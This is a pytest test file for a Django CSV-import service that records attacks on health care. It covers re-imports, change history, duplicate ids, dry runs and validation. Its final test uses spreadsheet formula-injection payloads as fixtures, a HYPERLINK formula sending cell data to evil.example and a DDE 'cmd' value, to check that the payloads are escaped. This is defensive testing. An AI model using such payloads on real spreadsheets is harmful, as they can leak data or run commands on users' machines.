"""Nothing lost, nothing doubled: re-imports, changed rows, duplicate ids, dry runs."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.db import connection

from ulinzi.accounts.models import Organisation
from ulinzi.common import encrypted_files
from ulinzi.incidents.models import Incident, IncidentChange, IncidentTerm
from ulinzi.intake.models import ImportReject, ImportRun
from ulinzi.intake.services import dry_run_csv, run_import

from .conftest import HXL_HEADER, hxl_rows

pytestmark = pytest.mark.django_db


def _run(path: Any, **kw: Any) -> Any:
    kw.setdefault("domain", "health_care_attack")
    return run_import(
        organisation=Organisation.objects.get(code="partner"), path=path, progress=False, **kw
    )


def test_same_file_twice_creates_nothing_new(org: Any, write_csv: Any) -> None:
    path = write_csv("a.csv", [*HXL_HEADER, *hxl_rows(30)])
    first = _run(path, batch_size=7)
    assert (first.created, first.rejected) == (30, 0)
    second = _run(path, batch_size=7)
    assert (second.created, second.updated, second.unchanged) == (0, 0, 30)
    assert Incident.objects.filter(organisation=org).count() == 30
    assert IncidentChange.objects.count() == 30
    assert ImportRun.objects.filter(status="done").count() == 2


def test_changed_row_is_updated_with_history_and_terms(org: Any, write_csv: Any) -> None:
    rows = hxl_rows(5)
    _run(write_csv("v1.csv", [*HXL_HEADER, *rows]))
    rows[2][5] = 9  # killed
    rows[2][4] = "militarization"  # types
    rows[2][7] = "A corrected narrative."
    result = _run(write_csv("v2.csv", [*HXL_HEADER, *rows]))
    assert (result.created, result.updated, result.unchanged) == (0, 1, 4)
    incident = Incident.objects.get(source_id=rows[2][0])
    assert (incident.killed, incident.types) == (9, ["militarization"])
    assert incident.narrative == "A corrected narrative."
    # Reasons are encrypted: no SQL lookup can look inside them.
    (change,) = [c for c in incident.changes.filter(action="imported") if "row 5" in c.reason]
    assert change.changes["killed"] == [2, 9]
    assert change.changes["types"] == [["obstruction"], ["militarization"]]
    assert change.changes["narrative"] == ["(hidden)", "(changed)"]
    assert "raw_source" in change.changes
    codes = set(IncidentTerm.objects.filter(incident=incident).values_list("kind", "code"))
    assert codes == {("type", "militarization")}


def test_repeated_id_in_a_file_is_rejected_with_the_first_row(org: Any, write_csv: Any) -> None:
    rows = hxl_rows(6)
    rows[5][0] = rows[1][0]
    result = _run(write_csv("dup.csv", [*HXL_HEADER, *rows]), batch_size=2)
    assert (result.created, result.rejected) == (5, 1)
    (reject,) = ImportReject.objects.all()
    assert (reject.row, reject.column, reject.value) == (8, "Event ID", rows[1][0])
    assert reject.reason == "the same source id as row 4 of this file"


def test_rows_without_an_id_get_one_from_their_content(org: Any, write_csv: Any) -> None:
    header = [h[1:] for h in HXL_HEADER]
    rows = [r[1:] for r in hxl_rows(4)]
    path = write_csv("noid.csv", [*header, *rows])
    assert _run(path).created == 4
    again = _run(path)
    assert (again.created, again.unchanged) == (0, 4)
    ids = Incident.objects.values_list("source_id", flat=True)
    assert all(str(i).startswith("row-sha256:") for i in ids)


def test_dry_run_writes_nothing_but_reports(org: Any, write_csv: Any, settings: Any) -> None:
    rows = hxl_rows(4)
    rows[1][2] = "Atlantis"
    path = write_csv("dry.csv", [*HXL_HEADER, *rows])
    result = _run(path, dry_run=True, sink=dry_run_csv(path))
    assert (result.dry_run, result.created, result.rejected) == (True, 3, 1)
    assert not Incident.objects.exists() and not ImportRun.objects.exists()
    assert (
        result.rejects_path is not None
        and result.rejects_path.parent == settings.DATA_DIR / "imports"
    )
    assert b"Atlantis" not in result.rejects_path.read_bytes()  # encrypted
    lines = list(csv.reader(io.StringIO(encrypted_files.read_bytes(result.rejects_path).decode())))
    assert lines[0] == ["row", "column", "value", "reason"]
    assert lines[1][:3] == ["4", "Country ISO", "Atlantis"]
    assert lines[1][3].startswith("is not an ISO 3166 country")


def test_only_a_required_field_costs_a_row_the_rest_is_reported(org: Any, write_csv: Any) -> None:
    rows = hxl_rows(6)
    rows[0][1] = "2999-01-01"
    rows[1][5] = "-3"
    rows[2][5] = "two"
    rows[3][4] = "Shelling, Dancing"
    rows[4][6] = 12.5
    result = _run(write_csv("bad.csv", [*HXL_HEADER, *rows]))
    assert (result.created, result.rejected) == (5, 1)
    got = {(r.row, r.column): (r.value, r.reason) for r in ImportReject.objects.all()}
    assert got == {(3, "Date"): ("2999-01-01", "is in the future")}
    assert result.kept == {
        ("Killed", "-3", "must be a whole number of people, zero or more"): 1,
        ("Killed", "two", "is not a number"): 1,
        ("Type", "Shelling, Dancing", "'shelling' is not a known value of ssa_attack_type"): 1,
        ("Injured", "12.5", "is not a whole number"): 1,
    }
    kept = {i.source_id: i for i in Incident.objects.all()}
    assert kept[rows[1][0]].killed is None and kept[rows[1][0]].injured == rows[1][6]
    assert kept[rows[2][0]].killed is None
    assert kept[rows[3][0]].types == [] and kept[rows[3][0]].killed == rows[3][5]
    assert kept[rows[4][0]].injured is None
    raw = kept[rows[3][0]].raw_source
    assert raw is not None and raw["Type"] == "Shelling, Dancing"  # the raw value stays
    assert result.rejects_path is not None  # the partner's values: owner only
    assert result.rejects_path.stat().st_mode & 0o777 == 0o600
    assert result.rejects_path.parent.stat().st_mode & 0o777 == 0o700


@pytest.mark.django_db(transaction=True)
def test_outside_a_transaction_batches_are_written_by_a_second_thread(
    write_csv: Any, monkeypatch: Any
) -> None:
    import threading

    from ulinzi.accounts import services as accounts
    from ulinzi.intake import pipeline

    accounts.ensure_organisation(code="partner", name="Partner", kind="ingo")
    writers: list[str] = []
    write = pipeline.Store.write

    def spy(self: Any, *args: Any, **kw: Any) -> Any:
        writers.append(threading.current_thread().name)
        return write(self, *args, **kw)

    monkeypatch.setattr(pipeline.Store, "write", spy)
    rows = hxl_rows(50)
    rows[7][1] = "yesterday"
    before = threading.active_count()
    result = _run(write_csv("t.csv", [*HXL_HEADER, *rows]), batch_size=8)
    assert (result.created, result.rejected, result.rows) == (49, 1, 50)
    # PostgreSQL's test database is shared by every connection, so a second thread writes;
    # the SQLite test database lives in this process's memory, so this thread writes.
    if connection.vendor == "postgresql":
        assert writers and all(name.startswith("ulinzi-import-writer") for name in writers)
    else:
        assert writers and set(writers) == {threading.current_thread().name}
    assert threading.active_count() == before
    run = ImportRun.objects.get()
    assert (run.status, run.rows_done, run.created, run.rejected) == ("done", 50, 49, 1)
    assert ImportReject.objects.get().row == 10
    assert _run(write_csv("t.csv", [*HXL_HEADER, *rows]), batch_size=8).unchanged == 49


def test_rejects_csv_never_runs_formulas_on_the_command_line_or_the_web(
    tmp_path: Any, org: Any
) -> None:
    """Both rejects CSVs (the command line's file and the web download) write inert cells."""
    import csv
    import io

    from ulinzi.intake import rejects, services

    given = [
        rejects.Reject(4, "=Type", '=HYPERLINK("http://evil.example/?d="&A2,"Click")', "unknown"),
        rejects.Reject(5, "Killed", "-3", "negative"),
        rejects.Reject(6, "+cmd|' /C calc'!A0", "@SUM(1)", "unknown"),
    ]
    expected = [
        ["row", "column", "value", "reason"],
        ["4", "'=Type", '\'=HYPERLINK("http://evil.example/?d="&A2,"Click")', "unknown"],
        ["5", "Killed", "-3", "negative"],
        ["6", "'+cmd|' /C calc'!A0", "'@SUM(1)", "unknown"],
    ]
    log = rejects.CsvLog(tmp_path / "rejects.csv")
    log.add(given)
    log.close()
    plain = encrypted_files.read_bytes(tmp_path / "rejects.csv").decode()
    assert list(csv.reader(io.StringIO(plain, newline=""))) == expected

    run = ImportRun.objects.create(organisation=org, fmt="csv", file_name="t.csv")
    rejects.save(run, given)
    assert list(csv.reader(io.StringIO("".join(services.rejects_csv(run))))) == expected
